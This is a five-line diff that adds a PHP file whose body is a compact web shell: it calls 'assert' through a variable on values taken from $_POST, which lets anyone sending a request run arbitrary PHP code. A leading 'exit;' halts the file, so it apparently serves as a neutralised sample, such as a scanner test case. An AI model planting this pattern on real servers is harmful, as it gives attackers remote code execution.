@@ -1,0 +1,5 @@
+<?php exit;
+$a = 'assert';
+$b = strrev('x');
+$a("$_POST[x]");
+$a($_POST['y']);
